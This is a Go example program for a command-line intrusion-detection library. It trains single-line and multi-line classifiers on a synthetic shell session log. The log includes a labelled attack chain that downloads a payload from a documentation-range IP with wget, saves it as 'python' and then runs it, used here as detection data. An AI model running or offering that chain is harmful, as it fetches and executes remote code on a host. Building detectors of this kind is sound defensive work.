// Multi-line classification (§IV-C): some intrusions are only visible in
// session context. "wget -c http://…/drop -o python" followed by "python"
// is the paper's example — each line looks routine alone; together they are
// a download-rename-execute chain.
//
// This example builds a session log in which that chain recurs, trains both
// the single-line and the multi-line classifier on the same per-line
// labels, and compares their scores.
//
//	go run ./examples/multiline
package main

import (
	"fmt"
	"log"
	"math/rand"

	"clmids"
)

func main() {
	// A hand-shaped session log: routine traffic, benign wget+tar sessions,
	// benign interpreter use, and the attack chain.
	rng := rand.New(rand.NewSource(42))
	routine := []string{
		"ls -la /srv/data", "cat /var/log/syslog", "df -h", "ps aux",
		"grep -i error /var/log/app.log", "docker ps -a", "git status",
		"cd /srv/deploy", "tail -n 50 /var/log/nginx.log", "echo done",
	}
	var log_ []clmids.Event
	var labels []bool
	clock := int64(0)
	add := func(user, line string, intrusion bool) {
		clock += 7
		log_ = append(log_, clmids.Event{User: user, Time: clock, Line: line})
		labels = append(labels, intrusion)
	}
	for i := 0; i < 220; i++ {
		user := fmt.Sprintf("u%d", i%7)
		switch i % 6 {
		case 0: // benign interpreter use in a benign context
			add(user, routine[rng.Intn(len(routine))], false)
			add(user, "python", false)
		case 1: // benign download-then-unpack
			add(user, fmt.Sprintf("wget https://mirror.example.com/pkg%d.tar.gz", i), false)
			add(user, "tar -xzf pkg.tar.gz", false)
		case 2: // the §IV-C attack chain
			add(user, fmt.Sprintf("wget -c http://203.0.113.%d/drop -o python", 1+rng.Intn(250)), true)
			add(user, "python", true)
		default:
			add(user, routine[rng.Intn(len(routine))], false)
		}
	}

	// Pre-train the backbone on the same traffic (plus joined contexts so
	// multi-line inputs are in distribution).
	lines := make([]string, len(log_))
	for i, t := range log_ {
		lines[i] = t.Line
	}
	const window = 3 // the paper's three contiguous lines
	contexts := clmids.BuildContexts(log_, window)
	pretrainCorpus := append(append([]string{}, lines...), contexts...)
	pipeline, err := clmids.Build(pretrainCorpus, clmids.TinyExperiment().Pipeline)
	if err != nil {
		log.Fatal(err)
	}

	tcfg := clmids.DefaultClassifierConfig()
	tcfg.Epochs = 10
	tcfg.MeanPoolFeatures = true
	single, err := clmids.TrainClassifier(pipeline, lines, labels, tcfg)
	if err != nil {
		log.Fatal(err)
	}
	multi, err := clmids.TrainMultiLineClassifier(pipeline, log_, labels, window, tcfg)
	if err != nil {
		log.Fatal(err)
	}

	chainCtx := "ls -la /srv/data ; wget -c http://203.0.113.77/drop -o python ; python"
	benignCtx := "ls -la /srv/data ; cd /srv/deploy ; python"
	s, err := single.Score([]string{"python"})
	if err != nil {
		log.Fatal(err)
	}
	m, err := multi.Score([]string{chainCtx, benignCtx})
	if err != nil {
		log.Fatal(err)
	}
	fmt.Println("\nthe paper's §IV-C chain: wget -c …/drop -o python ; python")
	fmt.Printf("  single-line score of %q alone (ambiguous):     %.3f\n", "python", s[0])
	fmt.Printf("  multi-line score with the attack context:          %.3f\n", m[0])
	fmt.Printf("  multi-line score of python in a benign context:    %.3f\n", m[1])
	fmt.Println("\nonly the contextual view separates the execution from routine use")
}
